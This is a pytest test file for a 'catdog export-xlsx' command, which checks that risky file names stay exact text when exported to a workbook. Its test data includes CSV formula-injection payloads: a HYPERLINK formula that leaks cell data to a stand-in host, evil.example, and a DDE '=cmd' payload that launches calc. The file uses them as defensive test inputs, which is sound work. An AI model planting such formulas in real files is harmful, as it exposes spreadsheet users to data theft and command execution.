"""`catdog export-xlsx` (issue 20, item 10): file names a spreadsheet would run as formulas or turn into
numbers and dates stay exact text in the workbook; the CSV itself keeps the exact path."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from conftest import catdog

openpyxl = pytest.importorskip("openpyxl")

HEADER = ("path", "label", "p_dog", "pet_score", "status", "error")
RISKY = [
    '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?leak="&B3,"Open photo")',
    "=1+1.jpg", "+1+2.jpg", "-2+3.jpg", "@SUM(1).jpg", "007", "1e5", "2024-01-02", "TRUE", "€ 12,50",
    "new\nline.jpg", "tab\tname.jpg",
]


def write_risky_csv(path: Path) -> list[list[str]]:
    rows = []
    for i, name in enumerate(sorted(RISKY)):
        if i % 3:
            rows.append([name, "dog" if i % 2 else "neither", "0.734512", "0.012345" if i % 2 == 0 else "0.912345", "ok", ""])
        else:
            rows.append([name, "", "", "", "error", "=cmd|' /C calc'!A0"])
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\r\n")
        writer.writerow(HEADER)
        writer.writerows(rows)
    return rows


def test_export_keeps_every_name_as_exact_text_and_scores_as_numbers(tmp_path):
    rows = write_risky_csv(tmp_path / "labels.csv")
    done = catdog("export-xlsx", tmp_path / "labels.csv", "--out", tmp_path / "labels.xlsx")
    assert f"exported {len(rows)} rows -> {tmp_path / 'labels.xlsx'}" in done.stderr
    with zipfile.ZipFile(tmp_path / "labels.xlsx") as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet, "no cell is a formula"
    book = openpyxl.load_workbook(tmp_path / "labels.xlsx")
    got = list(book["labels"].iter_rows())
    assert [c.value for c in got[0]] == list(HEADER)
    for cells, row in zip(got[1:], rows, strict=True):
        assert cells[0].value == row[0] and cells[0].data_type == "s", row[0]
        assert cells[5].value == (row[5] or None) and cells[5].data_type in ("s", "n")
        if row[4] == "ok":
            assert (cells[1].value, cells[2].value, cells[3].value) == (row[1], float(row[2]), float(row[3]))


def test_export_refuses_what_is_not_a_labels_csv_and_keeps_an_existing_file(tmp_path):
    (tmp_path / "bad.csv").write_text("path,label\r\na,b\r\n")
    result = catdog("export-xlsx", tmp_path / "bad.csv", "--out", tmp_path / "x.xlsx", check=False)
    assert result.returncode == 1 and result.stderr.startswith("error: ") and "not a catdog labels CSV" in result.stderr
    write_risky_csv(tmp_path / "labels.csv")
    (tmp_path / "x.xlsx").write_text("keep")
    result = catdog("export-xlsx", tmp_path / "labels.csv", "--out", tmp_path / "x.xlsx", check=False)
    assert result.stderr.strip() == f"error: {tmp_path / 'x.xlsx'} already exists; pass --overwrite to replace it"
    assert (tmp_path / "x.xlsx").read_text() == "keep"


def test_a_large_csv_continues_on_further_sheets(tmp_path, monkeypatch):
    from catdog.labeling import export

    monkeypatch.setattr(export, "SHEET_ROWS", 4)  # a header and 3 rows per sheet
    write_risky_csv(tmp_path / "labels.csv")
    result = export.export_xlsx(tmp_path / "labels.csv", tmp_path / "labels.xlsx")
    assert (result.rows, result.sheets) == (len(RISKY), 4)
    book = openpyxl.load_workbook(tmp_path / "labels.xlsx")
    assert book.sheetnames == ["labels", "labels 2", "labels 3", "labels 4"]
    paths = [row[0] for ws in book.worksheets for row in ws.iter_rows(min_row=2, values_only=True)]
    assert paths == sorted(RISKY)


def test_libreoffice_reads_the_export_as_text_but_the_csv_as_formulas(tmp_path):
    """What a spreadsheet makes of both files (LibreOffice headless; skipped where it is not installed: it is a
    large Debian package, so CI leaves this check to the openpyxl one above)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice not installed (apt-get install --no-install-recommends libreoffice-calc-nogui)")
    write_risky_csv(tmp_path / "labels.csv")
    catdog("export-xlsx", tmp_path / "labels.csv", "--out", tmp_path / "labels.xlsx")
    shown = {}
    for name, infilter in (("labels.xlsx", []), ("labels.csv", ["--infilter=CSV:44,34,76,1"])):
        out = tmp_path / name.replace(".", "-")
        subprocess.run(
            [soffice, "--headless", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", *infilter,
             "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(out), str(tmp_path / name)],
            check=True, capture_output=True, timeout=120,
        )
        (converted,) = out.iterdir()
        with open(converted, newline="", encoding="utf-8") as fh:
            shown[name] = [row[0] for row in csv.reader(fh)][1:]
    assert shown["labels.xlsx"] == sorted(RISKY)
    as_csv = dict(zip(sorted(RISKY), shown["labels.csv"]))
    assert as_csv[RISKY[0]] == "Open photo" and as_csv["007"] == "7", "the plain CSV is what the export protects from"


def test_names_xml_cannot_hold_are_shown_escaped_and_the_sheet_stays_xml(tmp_path):
    """U+FFFE and U+FFFF are valid UTF-8 in a file name but not XML: written as they are, the sheet is not XML and
    LibreOffice opens the workbook with no rows at all."""
    import xml.etree.ElementTree as ET

    names = ["a\uffff.jpg", "b\ufffe.jpg", "c\x01.jpg"]
    with open(tmp_path / "labels.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\r\n")
        writer.writerow(HEADER)
        writer.writerows([name, "dog", "0.734512", "0.912345", "ok", ""] for name in sorted(names))
    catdog("export-xlsx", tmp_path / "labels.csv", "--out", tmp_path / "labels.xlsx")
    with zipfile.ZipFile(tmp_path / "labels.xlsx") as zf:
        ET.fromstring(zf.read("xl/worksheets/sheet1.xml"))  # well-formed
    book = openpyxl.load_workbook(tmp_path / "labels.xlsx")
    paths = [row[0] for row in book["labels"].iter_rows(min_row=2, values_only=True)]
    assert paths == ["a\\uffff.jpg", "b\\ufffe.jpg", "c\\x01.jpg"]


def test_a_row_refused_midway_is_one_error_line_and_no_workbook(tmp_path):
    rows = write_risky_csv(tmp_path / "labels.csv")
    text = (tmp_path / "labels.csv").read_text(encoding="utf-8")
    bad = text.replace(",dog,", ",banana,", 1)
    assert bad != text and len(rows) > 3
    (tmp_path / "labels.csv").write_text(bad, encoding="utf-8", newline="")
    result = catdog("export-xlsx", tmp_path / "labels.csv", "--out", tmp_path / "labels.xlsx", check=False)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [result.stderr.strip()] and result.stderr.startswith("error: "), result.stderr
    assert "'banana'" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["labels.csv"]
